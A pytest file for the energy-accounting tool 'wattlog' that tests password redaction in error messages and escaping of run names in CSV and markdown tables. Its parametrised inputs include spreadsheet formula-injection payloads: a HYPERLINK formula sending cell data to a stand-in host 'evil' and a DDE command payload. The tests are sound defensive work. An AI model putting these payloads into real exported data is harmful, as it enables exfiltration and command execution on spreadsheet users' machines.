"""Faults: credentials printed, a malformed database URL as a traceback, run names as formulas.

On the old code a Pushgateway URL's password was printed in the warning of
every flush that could not push; a database URL with a port that is not a
number gave a traceback (with its password); a run named `=HYPERLINK(...)` or
holding a newline went into tables and CSV as it was, so a spreadsheet ran it
as a formula and a newline broke the table's row.
"""

from __future__ import annotations

import csv
import io
import socket
import subprocess
import sys
from pathlib import Path

import pytest
from prometheus_client import CollectorRegistry

from wattlog.accounting.ledger import Ledger, RunSpec, make_engine
from wattlog.cli import main
from wattlog.errors import WattlogError
from wattlog.records import EnergyInterval, Kind, Source
from wattlog.telemetry.exporter import push

SECRET = "s3cr3t-pw"


def closed_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


def test_a_pushgateway_password_is_never_printed() -> None:
    with pytest.raises(WattlogError) as raised:
        push(CollectorRegistry(), f"http://ops:{SECRET}@127.0.0.1:{closed_port()}", "wattlog", timeout_s=2)
    assert SECRET not in str(raised.value) and "ops:***@127.0.0.1" in str(raised.value)


def test_a_malformed_database_url_is_one_line_without_its_password() -> None:
    url = f"postgresql://u:{SECRET}@db:notaport/ledger"
    done = subprocess.run(
        [sys.executable, "-m", "wattlog", "table", "--db", url], capture_output=True, text=True, timeout=120
    )
    assert done.returncode == 2 and "Traceback" not in done.stderr  # old code: ValueError traceback
    assert done.stderr.strip().count("\n") == 0 and "is malformed" in done.stderr
    assert SECRET not in done.stderr + done.stdout


@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil/?"&A1,"x")', "+cmd|' /C calc'!A0", "two\nlines"])
def test_run_names_are_escaped_in_tables_and_csv(tmp_path: Path, capsys, name: str) -> None:
    url = f"sqlite:///{tmp_path / 'l.db'}"
    ledger = Ledger(make_engine(url))
    run = ledger.start_run(name, RunSpec(site="jupiter"))
    row = EnergyInterval.of("n", "gpu0", Kind.GPU, Source.COUNTER, 3600.0, 7200.0, 3.6e9, 3.6e9, 3.6e9)
    ledger.record_intervals(run.id, [row])
    ledger.engine.dispose()
    assert main(["table", name, "--db", url, "--format", "csv"]) == 0
    [record] = list(csv.DictReader(io.StringIO(capsys.readouterr().out)))
    assert not record["model"].startswith(("=", "+", "-", "@")) and "\n" not in record["model"]
    assert main(["table", name, "--db", url, "--format", "markdown"]) == 0
    lines = [line for line in capsys.readouterr().out.splitlines() if line.startswith("|")]
    assert len(lines) == 3  # header, rule, one row: a newline in the name never splits it
